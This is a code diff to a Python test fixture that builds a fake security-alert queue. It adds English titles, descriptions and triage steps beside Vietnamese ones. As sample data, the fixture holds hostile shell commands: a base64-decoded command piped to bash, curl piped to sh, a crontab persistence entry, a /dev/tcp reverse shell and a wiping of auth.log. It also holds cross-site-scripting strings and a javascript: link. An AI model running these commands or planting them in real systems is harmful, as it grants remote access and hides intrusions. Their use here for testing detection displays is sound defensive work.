@@ -13,13 +13,34 @@ NOW = datetime.now(UTC)
 LEVELS = ("critical", "high", "medium", "low", "informational")
 
 RULES = (
-    ("Giải mã base64 rồi chạy bằng shell", "attack.t1059.004", 'bash -c "echo aWQ7IHdob2FtaQ== | base64 -d | bash"'),
-    ("Tải tập lệnh về và chạy thẳng qua ống", "attack.t1105", "curl -fsSL http://127.0.0.1:8099/setup.sh | sh"),
-    ("Thêm tác vụ định kỳ bằng crontab", "attack.t1053.003", "crontab -l; echo '*/5 * * * * /tmp/.x/run' | crontab -"),
-    ("Reverse shell qua /dev/tcp", "attack.t1059.004", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"),
-    ("Tệp chạy từ bộ nhớ (memfd)", "attack.t1620", "/memfd:kworker (deleted) --daemon"),
-    ("Xoá nhật ký hệ thống", "attack.t1070.002", "truncate -s 0 /var/log/auth.log"),
+    (
+        "Encoded text run by a shell",
+        "Giải mã base64 rồi chạy bằng shell",
+        "attack.t1059.004",
+        'bash -c "echo aWQ7IHdob2FtaQ== | base64 -d | bash"',
+    ),
+    (
+        "Download piped into a shell",
+        "Tải tập lệnh về và chạy thẳng qua ống",
+        "attack.t1105",
+        "curl -fsSL http://127.0.0.1:8099/setup.sh | sh",
+    ),
+    (
+        "Scheduled job added by crontab",
+        "Thêm tác vụ định kỳ bằng crontab",
+        "attack.t1053.003",
+        "crontab -l; echo '*/5 * * * * /tmp/.x/run' | crontab -",
+    ),
+    ("Reverse shell over /dev/tcp", "", "attack.t1059.004", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"),
+    (
+        "Program run from memory (memfd)",
+        "Tệp chạy từ bộ nhớ (memfd)",
+        "attack.t1620",
+        "/memfd:kworker (deleted) --daemon",
+    ),
+    ("System log cleared", "Xoá nhật ký hệ thống", "attack.t1070.002", "truncate -s 0 /var/log/auth.log"),
 )
+"""Title, the same in Vietnamese (one rule has none), tag, command."""
 
 HOSTILE = (
     "<img src=x onerror=alert(1)><script>document.title='owned'</script>",
@@ -45,13 +66,14 @@ def host_id(index: int) -> str:
 
 def alert(number: int, *, age: timedelta | None = None) -> Json:
     """Make one row of the queue; every fifth has hostile texts."""
-    title, tag, command = RULES[number % len(RULES)]
+    title, title_vi, tag, command = RULES[number % len(RULES)]
     host = number % len(HOSTS)
     hostile = HOSTILE[number // 5 % len(HOSTILE)] if number % 5 == 4 else ""
     moment = NOW - (timedelta(minutes=7 * number, seconds=13) if age is None else age)
     return {
         "id": f"{number:032x}",
         "title": title,
+        "title_vi": title_vi,
         "level": LEVELS[number % 7 if number % 7 < len(LEVELS) else 1],
         "rule": f"7d1f0000-0000-4000-8000-{number % len(RULES):012d}",
         "host": host_id(host),
@@ -77,8 +99,11 @@ def detail(row: Json, notes: list[Json], history: list[Json]) -> Json:
         "rule": {
             "id": row["rule"],
             "title": row["title"],
+            "title_vi": row["title_vi"],
             "level": row["level"],
-            "description": "Một lệnh giấu bằng base64 được đưa thẳng cho shell.\nNgười quản trị hiếm khi làm vậy.",
+            "description": "A command hidden in base64 is handed to a shell.\nAdministrators rarely do that.",
+            "description_vi": "Một lệnh giấu bằng base64 được đưa thẳng cho shell.\nNgười quản trị hiếm khi làm vậy.",
+            "triage": ["Decode the text by hand and read it", "Look at what the shell started"],
             "tags": row["tags"],
             "falsepositives": ["Trình cài đặt của nhà cung cấp", "Kịch bản triển khai cũ"],
             "references": ["https://attack.mitre.org/techniques/T1059/004/", "javascript:alert(3)"],
